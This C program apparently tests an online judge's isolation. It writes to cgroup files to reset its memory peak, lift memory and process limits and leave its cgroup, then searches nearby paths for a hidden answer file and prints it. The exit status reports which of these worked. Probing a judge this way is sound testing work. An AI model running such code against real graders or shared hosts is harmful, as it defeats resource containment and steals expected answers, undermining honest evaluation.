/* Tries to get around the judge. The exit status tells what it got: 1 its peak is
   reset, 2 its limit is lifted, 4 it has left its cgroup, 8 it has read the answer,
   which it then prints. */
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int put(const char *dir, const char *file, const char *text)
{
	char path[4096];
	FILE *f;
	int ok;

	snprintf(path, sizeof path, "%s/%s", dir, file);
	if (!(f = fopen(path, "r+")))
		return 0;
	ok = fputs(text, f) >= 0;
	return fclose(f) == 0 && ok;
}

int main(int argc, char **argv)
{
	char line[4096], dir[8192], self[32], *path, *controllers;
	const char *answers[] = { "answer", "../answer", "../private/answer" };
	FILE *f = fopen("/proc/self/cgroup", "r");
	int got = 0, c;

	snprintf(self, sizeof self, "%d", (int)getpid());
	while (f && fgets(line, sizeof line, f)) {
		line[strcspn(line, "\n")] = 0;
		controllers = strchr(line, ':') + 1;
		path = strchr(controllers, ':');
		*path++ = 0;
		for (int n = 0; n < 2; n++) {
			const char *top = n ? "/sys/fs/cgroup" : "/sys/fs/cgroup/";

			snprintf(dir, sizeof dir, "%s%s%s", top, n ? "" : controllers, path);
			if (put(dir, "memory.max_usage_in_bytes", "0") | put(dir, "memory.peak", "0"))
				got |= 1;
			if (put(dir, "memory.memsw.limit_in_bytes", "-1") | put(dir, "memory.limit_in_bytes", "-1") |
			    put(dir, "memory.max", "max") | put(dir, "pids.max", "max"))
				got |= 2;
			snprintf(dir, sizeof dir, "%s%s", top, n ? "" : controllers);
			if (strcmp(path, "/") && put(dir, "cgroup.procs", self))
				got |= 4;
		}
	}
	*strrchr(argv[0], '/') = 0;
	for (unsigned n = 0; n < sizeof answers / sizeof *answers; n++) {
		snprintf(dir, sizeof dir, "%s/%s", argv[0], answers[n]);
		if (!(f = fopen(dir, "r")))
			continue;
		got |= 8;
		while ((c = getc(f)) != EOF)
			putchar(c);
	}
	return got;
}
